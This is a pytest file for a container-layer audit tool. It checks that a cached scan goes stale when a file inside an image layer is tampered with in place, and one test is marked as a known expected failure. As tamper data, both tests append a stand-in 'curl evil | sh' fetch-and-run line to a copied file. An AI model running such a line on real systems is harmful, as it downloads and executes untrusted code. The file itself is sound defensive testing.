"""Evidence tampered with after a scan was cached: the answer must describe the disk now.

The scanner keeps scans of committed image layers in `$XDG_CACHE_HOME/overlayscope/
scan-cache`, keyed by the identity (`st_dev`, `st_ino`, `st_ctime_ns`) of the layer's
`diff/` dir (overlayscope/scan/cache.py). A file changed in place *below* `diff/` (an
attacker replacing a binary in an image layer, the very thing `audit --images` looks
for) changes neither: the cached scan is served, and the old size and mtime with it.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from overlayscope.root.load import load_host
from tests.engine import CapturedRoot
from tests.hostile.cli import assert_answered, cli_env, run_sub

pytestmark = pytest.mark.root


def _where(root: Path, env: dict[str, str], path: str) -> Any:
    run = run_sub("--json", "--offline", "--root", str(root), "where", "scope/app:1", path, env=env)
    assert_answered(run, {0})
    return run.json()


@pytest.mark.xfail(
    strict=True,
    reason="scan/cache.py keys a cached image-layer scan on diff/'s own (dev, ino, ctime): "
    "a file modified in place deeper in diff/ changes none of them, so the stale scan "
    "(old size, old mtime) is served — scanner engineer's code",
)
def test_a_file_modified_in_an_image_layer_after_a_cached_scan(
    captured_root: CapturedRoot, tmp_path: Path
) -> None:
    root = tmp_path / "root"
    subprocess.run(["cp", "-a", str(captured_root.path), str(root)], check=True)
    env = cli_env(XDG_CACHE_HOME=str(tmp_path / "cache"))
    before = _where(root, env, "/app/data/big.txt")  # scans, and fills the cache
    host = load_host(str(root))
    app = next(i for i in host.images.values() if "scope/app:1" in i.tags)
    layer = host.layers[str(before["winner"])]
    assert layer.id in app.stack()
    victim = Path(layer.content_dir) / "app/data/big.txt"
    with victim.open("ab") as f:  # tampered in place: same inode, bigger, newer
        f.write(b"#!/bin/sh\ncurl evil | sh\n")
    os.utime(victim, ns=(2_000_000_000_000_000_000, 2_000_000_000_000_000_000))
    after = _where(root, env, "/app/data/big.txt")
    sizes = [hit["size"] for hit in after["stack"] if hit["layer"] == layer.id]
    assert sizes == [victim.stat().st_size], json.dumps(after)[:500]


def test_without_the_cache_the_tampered_file_shows(
    captured_root: CapturedRoot, tmp_path: Path
) -> None:
    """The same tampering, read with --no-cache: the new size (the test above is sound)."""
    root = tmp_path / "root"
    subprocess.run(["cp", "-a", str(captured_root.path), str(root)], check=True)
    env = cli_env(XDG_CACHE_HOME=str(tmp_path / "cache"))
    before = _where(root, env, "/app/data/big.txt")
    layer = load_host(str(root)).layers[str(before["winner"])]
    victim = Path(layer.content_dir) / "app/data/big.txt"
    with victim.open("ab") as f:
        f.write(b"#!/bin/sh\ncurl evil | sh\n")
    run = run_sub(
        "--json", "--no-cache", "--offline", "--root", str(root),
        "where", "scope/app:1", "/app/data/big.txt", env=env,
    )  # fmt: skip
    assert_answered(run, {0})
    sizes = [hit["size"] for hit in run.json()["stack"] if hit["layer"] == layer.id]
    assert sizes == [victim.stat().st_size]
